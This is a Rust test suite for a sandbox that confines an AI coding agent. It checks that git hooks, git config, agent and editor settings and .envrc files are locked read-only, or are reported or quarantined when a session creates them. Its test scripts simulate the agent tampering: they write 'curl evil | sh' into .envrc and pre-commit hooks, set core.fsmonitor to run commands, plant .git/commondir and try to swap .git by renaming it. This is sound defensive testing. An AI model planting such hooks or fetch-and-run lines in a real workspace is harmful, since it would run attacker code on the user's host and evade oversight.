//! Workspace files that run code on the host: read-only inside when they exist, reported
//! (or quarantined) when a session creates them, and no trace of the protection itself.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::*;

/// Run a command on the host as `user` in `dir`.
fn host_as(user: TestUser, dir: &Path, script: &str) {
    let out = Command::new("setpriv")
        .args([
            "--reuid",
            &user.uid.to_string(),
            "--regid",
            &user.gid().to_string(),
        ])
        .args(["--clear-groups", "/bin/sh", "-c", script])
        .current_dir(dir)
        .env("HOME", user.home())
        .output()
        .unwrap();
    ok(&out);
}

/// A git repository with one commit, a hook, and the agent and editor files.
fn project(f: &Fixture, user: TestUser) -> PathBuf {
    let ws = f.workspace("project", user);
    host_as(
        user,
        &ws,
        "git init -q -b main . && git config user.email t@example.invalid && \
         git config user.name t && echo 'exit 0' > .git/hooks/pre-commit && \
         chmod +x .git/hooks/pre-commit && mkdir .claude && echo '{}' > .claude/settings.json && \
         echo '{}' > .mcp.json && echo 'export A=1' > .envrc && echo hello > README && \
         git add README && git commit -q -m init",
    );
    ws
}

#[test]
fn protected_files_are_read_only_and_git_still_works() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = project(&f, a);
    let attempts = [
        "echo '[core] hooksPath = /tmp' >> .git/config",
        "git config core.fsmonitor 'touch /tmp/pwned'",
        "echo 'touch /tmp/pwned' > .git/hooks/post-checkout",
        "echo 'touch /tmp/pwned' >> .git/hooks/pre-commit",
        "rm .git/hooks/pre-commit",
        "mv .git/config .git/config.old",
        "echo '{\"hooks\": {}}' > .claude/settings.json",
        "rm .claude/settings.json",
        "echo '{\"mcpServers\": {}}' > .mcp.json",
        "echo 'touch /tmp/pwned' >> .envrc",
        "mv .envrc envrc.old",
    ];
    let script = attempts
        .iter()
        .map(|c| format!("if ({c}) 2>/dev/null; then echo CHANGED: {c}; fi"))
        .collect::<Vec<_>>()
        .join("; ");
    let git = "echo more >> README && git add README && git commit -q -m second && \
               git log --format=%s | tr '\\n' ' '";
    let out = ok(&f.run(a, &ws, &format!("cd /workspace; {script}; {git}")));
    assert!(!out.contains("CHANGED"), "{out}");
    assert_eq!(out, "second init ");
    assert!(!ws.join(".git/hooks/post-checkout").exists());
    assert_eq!(
        std::fs::read_to_string(ws.join(".envrc")).unwrap(),
        "export A=1\n"
    );
}

#[test]
fn protected_path_created_in_a_session_is_reported_and_logged() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    let out = f.run(
        a,
        &ws,
        "mkdir -p /workspace/.claude && echo '{\"hooks\":{}}' > /workspace/.claude/settings.json && \
         echo 'curl evil | sh' > /workspace/.envrc && echo ok",
    );
    assert_eq!(ok(&out), "ok\n");
    let err = stderr(&out);
    assert!(
        err.contains("review these before using the project outside the sandbox"),
        "{err}"
    );
    assert!(
        err.contains(".claude/settings.json was created: Claude Code on the host"),
        "{err}"
    );
    assert!(
        err.contains(".envrc was created: direnv on the host"),
        "{err}"
    );
    // Left in place without quarantine.
    assert!(ws.join(".envrc").exists());
    let logs: Vec<_> = std::fs::read_dir(f.state.join("logs")).unwrap().collect();
    assert_eq!(logs.len(), 1);
    let log = std::fs::read_to_string(logs[0].as_ref().unwrap().path()).unwrap();
    let review: serde_json::Value = log
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|v| v.get("review").is_some())
        .expect("a review line in the session log");
    let paths: Vec<&str> = review["review"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["path"].as_str().unwrap())
        .collect();
    assert_eq!(paths, [".claude/settings.json", ".envrc"]);
}

#[test]
fn quarantine_moves_new_protected_paths_away_and_says_where() {
    let f = Fixture::with(Options {
        quarantine: true,
        ..Options::default()
    });
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    let out = f.run(
        a,
        &ws,
        "echo '{}' > /workspace/.mcp.json && echo keep > /workspace/notes.txt",
    );
    ok(&out);
    let err = stderr(&out);
    assert!(err.contains(".mcp.json was created"), "{err}");
    let moved_line = err.lines().find(|l| l.contains("moved to")).expect(&err);
    let moved = moved_line.split("moved to ").nth(1).unwrap().trim();
    assert!(moved.starts_with(&f.state.join("quarantine").display().to_string()));
    assert_eq!(std::fs::read_to_string(moved).unwrap(), "{}\n");
    assert!(!ws.join(".mcp.json").exists());
    assert!(ws.join("notes.txt").exists(), "other files stay");
}

/// Every entry under `dir` with what a change to it would alter: type and mode, owner,
/// size, inode, and the modification and change times (the kernel sets the change time on
/// any write, chmod, chown, link or unlink, so a touch that restored the rest still shows).
fn metadata_tree(dir: &Path) -> std::collections::BTreeMap<String, [i64; 8]> {
    use std::os::unix::fs::MetadataExt;
    let mut out = std::collections::BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            let md = std::fs::symlink_metadata(&p).unwrap();
            if md.is_dir() {
                stack.push(p.clone());
            }
            let rel = p.strip_prefix(dir).unwrap().display().to_string();
            out.insert(
                rel,
                [
                    i64::from(md.mode()),
                    i64::from(md.uid()),
                    i64::from(md.gid()),
                    md.size() as i64,
                    md.ino() as i64,
                    md.mtime() * 1_000_000_000 + md.mtime_nsec(),
                    md.ctime() * 1_000_000_000 + md.ctime_nsec(),
                    md.nlink() as i64,
                ],
            );
        }
    }
    out
}

#[test]
fn the_protection_leaves_no_trace_in_the_workspace() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = project(&f, a);
    // Some protected paths exist (mounted over, their parents pinned), others do not
    // (watched).
    let before = tree(&ws);
    let before_metadata = metadata_tree(&ws);
    ok(&f.run(a, &ws, "echo new > /workspace/agent-wrote-this"));
    let mut after = tree(&ws);
    assert_eq!(after.remove("agent-wrote-this"), Some(b"new\n".to_vec()));
    assert_eq!(before, after);
    let mut after_metadata = metadata_tree(&ws);
    after_metadata.remove("agent-wrote-this");
    assert_eq!(before_metadata, after_metadata);
}

/// Unmounts (lazily) what a test mounted on the host when dropped.
struct Mounted(PathBuf);

impl Drop for Mounted {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg("-l").arg(&self.0).status();
    }
}

#[test]
fn a_mount_inside_a_protected_directory_is_read_only_too() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    host_as(
        a,
        &ws,
        "mkdir -p .vscode/cache && echo '{}' > .vscode/tasks.json",
    );
    let cache = ws.join(".vscode/cache");
    let opts = format!("uid={},gid={},mode=0755", a.uid, a.gid());
    let status = Command::new("mount")
        .args([
            "-t",
            "tmpfs",
            "-o",
            &opts,
            "ccr-test",
            cache.to_str().unwrap(),
        ])
        .status()
        .unwrap();
    assert!(status.success(), "mount a tmpfs on {}", cache.display());
    let _unmount = Mounted(cache.clone());
    host_as(a, &cache, "echo 'make' > build.sh");
    let out = ok(&f.run(
        a,
        &ws,
        "cd /workspace/.vscode/cache; (echo x >> build.sh) 2>/dev/null && echo SUBMOUNT-CHANGED; \
         (echo x > new.sh) 2>/dev/null && echo SUBMOUNT-ADDED; cat build.sh; \
         echo ok > /workspace/elsewhere && echo rest-writable",
    ));
    assert_eq!(out, "make\nrest-writable\n");
    assert_eq!(
        std::fs::read_to_string(cache.join("build.sh")).unwrap(),
        "make\n"
    );
    assert!(!cache.join("new.sh").exists());
}

#[test]
fn a_git_dir_outside_the_workspace_is_named_at_start_and_the_git_file_is_protected() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    let outside = f.workspace("elsewhere", a);
    host_as(
        a,
        &outside,
        "git init -q --separate-git-dir=repo.git -b main tree && mv tree/.git gitfile",
    );
    std::fs::copy(outside.join("gitfile"), ws.join(".git")).unwrap();
    std::os::unix::fs::chown(ws.join(".git"), Some(a.uid), Some(a.gid())).unwrap();
    let out = f.run(
        a,
        &ws,
        "(echo 'gitdir: /workspace/evil.git' > /workspace/.git) 2>/dev/null && echo CHANGED; \
         echo done",
    );
    assert_eq!(ok(&out), "done\n");
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            ".git points to {}, outside the workspace: git inside the sandbox will not find \
             the repository",
            outside.join("repo.git").display()
        )),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join(".git")).unwrap(),
        format!("gitdir: {}\n", outside.join("repo.git").display())
    );
}

#[test]
fn the_configured_list_replaces_the_default() {
    let f = Fixture::with(Options {
        protected_paths: Some("[ \"Makefile\" ]".into()),
        ..Options::default()
    });
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    write_as(a, &ws.join("Makefile"), "all:\n");
    write_as(a, &ws.join(".envrc"), "export A=1\n");
    let out = ok(&f.run(
        a,
        &ws,
        "(echo x >> /workspace/Makefile) 2>/dev/null && echo MAKEFILE-CHANGED; \
         echo x >> /workspace/.envrc && echo envrc-writable",
    ));
    assert_eq!(out, "envrc-writable\n");
}

#[test]
fn a_linked_git_dir_inside_the_workspace_is_protected_too() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    // A worktree-style layout: .git is a file pointing at a git directory elsewhere in
    // the workspace.
    host_as(
        a,
        &ws,
        "git init -q --separate-git-dir=repo.git -b main sub && echo 'exit 0' > repo.git/hooks/pre-commit",
    );
    let sub = ws.join("sub");
    // Use the subdirectory with the `.git` file as the workspace root? No: the gitdir must
    // be inside the workspace, so the workspace is `ws` and `.git` is at its top.
    std::fs::rename(sub.join(".git"), ws.join(".git")).unwrap();
    std::fs::write(ws.join(".git"), "gitdir: repo.git\n").unwrap();
    let out = f.run(
        a,
        &ws,
        "(echo x >> /workspace/repo.git/config) 2>/dev/null && echo CONFIG-CHANGED; \
         (echo x > /workspace/repo.git/hooks/post-checkout) 2>/dev/null && echo HOOK-ADDED; \
         (echo 'gitdir: evil.git' > /workspace/.git) 2>/dev/null && echo GITFILE-CHANGED; \
         echo /tmp/evil > /workspace/repo.git/commondir; echo done",
    );
    assert_eq!(ok(&out), "done\n");
    // Absent at start, so watched rather than read-only.
    let err = stderr(&out);
    assert!(
        err.contains("repo.git/commondir was created: git on the host takes the repository"),
        "{err}"
    );
}

/// The `review` entry of the only session log, or `None` when it has none.
fn logged_review(f: &Fixture) -> Option<serde_json::Value> {
    let logs: Vec<_> = std::fs::read_dir(f.state.join("logs")).unwrap().collect();
    assert_eq!(logs.len(), 1);
    let log = std::fs::read_to_string(logs[0].as_ref().unwrap().path()).unwrap();
    log.lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find_map(|v| v.get("review").cloned())
}

/// Removes a directory tree with `rm -rf` when dropped, before the fixture's own removal:
/// the standard library's recursive removal would overflow a test thread's stack on a
/// tree 60,000 directories deep.
struct RemoveTree(Vec<PathBuf>);

impl Drop for RemoveTree {
    fn drop(&mut self) {
        for p in &self.0 {
            let _ = Command::new("rm").arg("-rf").arg(p).status();
        }
    }
}

#[test]
fn a_created_tree_deeper_than_the_bound_is_reported_and_the_session_ends_cleanly() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    let _cleanup = RemoveTree(vec![ws.join(".idea")]);
    // Deep enough to overflow the activator's stack when walked recursively.
    let out = f.run(
        a,
        &ws,
        r#"python3 -c 'import os
os.chdir("/workspace")
for name in [".idea"] + ["d"] * 60000:
    os.mkdir(name)
    os.chdir(name)
' && echo made"#,
    );
    assert_eq!(ok(&out), "made\n");
    let err = stderr(&out);
    assert!(
        err.contains(".idea was created: the editor on the host"),
        "{err}"
    );
    assert!(
        err.contains("not compared in full: .idea/d/d/")
            && err.contains("is nested more than 128 directories deep"),
        "{err}"
    );
    assert!(f.sessions().is_empty(), "the session state is removed");
    let review = logged_review(&f).expect("a review line in the session log");
    assert_eq!(review[0]["path"], ".idea");
    assert!(
        review[0]["incomplete"]
            .as_str()
            .unwrap()
            .ends_with("nested more than 128 directories deep")
    );
}

#[test]
fn an_unreadable_protected_path_is_reported_without_hiding_the_others() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    let out = f.run(
        a,
        &ws,
        "mkdir /workspace/.idea && echo '<project/>' > /workspace/.idea/workspace.xml && \
         chmod 000 /workspace/.idea && echo 'curl evil | sh' > /workspace/.envrc && echo ok",
    );
    assert_eq!(ok(&out), "ok\n");
    let err = stderr(&out);
    assert!(err.contains(".envrc was created: direnv"), "{err}");
    assert!(err.contains(".idea was created: the editor"), "{err}");
    assert!(
        err.contains("not compared in full: cannot open .idea: Permission denied"),
        "{err}"
    );
    let review = logged_review(&f).expect("a review line in the session log");
    let paths: Vec<&str> = review
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["path"].as_str().unwrap())
        .collect();
    assert_eq!(paths, [".envrc", ".idea"]);
}

/// Clears the immutable flag it set when dropped.
struct Immutable(PathBuf);

impl Drop for Immutable {
    fn drop(&mut self) {
        let _ = Command::new("chattr").arg("-i").arg(&self.0).status();
    }
}

#[test]
fn the_review_is_reported_when_the_session_log_cannot_be_written() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = project(&f, a);
    // No hooks directory at start, so the agent can make one.
    std::fs::remove_dir_all(ws.join(".git/hooks")).unwrap();
    // A log directory nothing can write to, as on a full disk.
    let logs = f.state.join("logs");
    std::fs::create_dir_all(&logs).unwrap();
    let status = Command::new("chattr")
        .arg("+i")
        .arg(&logs)
        .status()
        .unwrap();
    assert!(status.success(), "chattr +i {}", logs.display());
    let _undo = Immutable(logs.clone());
    let out = f.run(
        a,
        &ws,
        "mkdir /workspace/.git/hooks && echo 'curl evil | sh' > /workspace/.git/hooks/pre-commit \
         && chmod +x /workspace/.git/hooks/pre-commit && exit 7",
    );
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(7), "the command's status: {err}");
    assert!(
        err.contains(".git/hooks was created: git on the host runs these hooks"),
        "{err}"
    );
    assert!(
        err.contains("claude-chroot: warning: cannot open session log"),
        "{err}"
    );
    assert!(f.sessions().is_empty(), "the session state is removed");
}

#[test]
fn a_planted_git_commondir_is_reported() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = project(&f, a);
    let out = f.run(a, &ws, "echo /tmp/evil-git > /workspace/.git/commondir");
    ok(&out);
    let err = stderr(&out);
    assert!(
        err.contains(".git/commondir was created: git on the host takes the repository"),
        "{err}"
    );
}

#[test]
fn renaming_the_parent_of_a_protected_path_is_refused() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = project(&f, a);
    let config = std::fs::read_to_string(ws.join(".git/config")).unwrap();
    // Carry the read-only files away under another name and put new ones in their place.
    let out = ok(&f.run(
        a,
        &ws,
        "cd /workspace; for d in .git .claude; do mv $d $d-orig 2>&1; done; \
         mv .git .git-orig 2>/dev/null && mkdir .git && cp -r .git-orig/objects \
         .git-orig/refs .git-orig/HEAD .git/ && echo '[core] fsmonitor = evil' > .git/config; \
         git log --format=%s",
    ));
    assert_eq!(
        out,
        "mv: cannot move '.git' to '.git-orig': Device or resource busy\n\
         mv: cannot move '.claude' to '.claude-orig': Device or resource busy\n\
         init\n"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join(".git/config")).unwrap(),
        config
    );
    assert!(!ws.join(".git-orig").exists());
}

#[test]
fn quarantine_moves_a_changed_protected_path_away_and_says_it_needs_review() {
    let f = Fixture::with(Options {
        quarantine: true,
        ..Options::default()
    });
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    // A symlink can only be watched, so the agent can change it.
    write_as(a, &ws.join("envrc.a"), "export A=1\n");
    std::os::unix::fs::symlink("envrc.a", ws.join(".envrc")).unwrap();
    std::os::unix::fs::lchown(ws.join(".envrc"), Some(a.uid), Some(a.gid())).unwrap();
    let out = f.run(
        a,
        &ws,
        "echo 'curl evil | sh' > /workspace/envrc.evil && ln -sfn envrc.evil /workspace/.envrc",
    );
    ok(&out);
    let err = stderr(&out);
    assert!(err.contains(".envrc was changed: direnv"), "{err}");
    let moved_line = err.lines().find(|l| l.contains("moved to")).expect(&err);
    let moved = moved_line.split("moved to ").nth(1).unwrap().trim();
    assert!(moved.starts_with(&f.state.join("quarantine").display().to_string()));
    assert_eq!(
        std::fs::read_link(moved).unwrap(),
        Path::new("envrc.evil"),
        "the agent's version is what moved"
    );
    assert!(
        err.contains("nothing was put back: restore .envrc from a copy you trust"),
        "{err}"
    );
    assert!(ws.join(".envrc").symlink_metadata().is_err());
    let review = logged_review(&f).expect("a review line in the session log");
    assert_eq!(review[0]["change"], "changed");
    assert_eq!(review[0]["quarantined"], moved);
}

#[test]
fn every_default_protected_path_in_the_nix_files_has_a_reason() {
    let defaults = nix_eval(&format!(
        "(import {}/nix/defaults.nix).protectedPaths",
        repo().display()
    ));
    let paths = defaults.as_array().unwrap();
    assert!(paths.iter().any(|p| p == ".git/commondir"));
    for p in paths {
        let p = p.as_str().unwrap();
        let why = claude_chroot::protect::why(Path::new(p));
        assert!(!why.starts_with("it may"), "{p} has no reason of its own");
    }
}
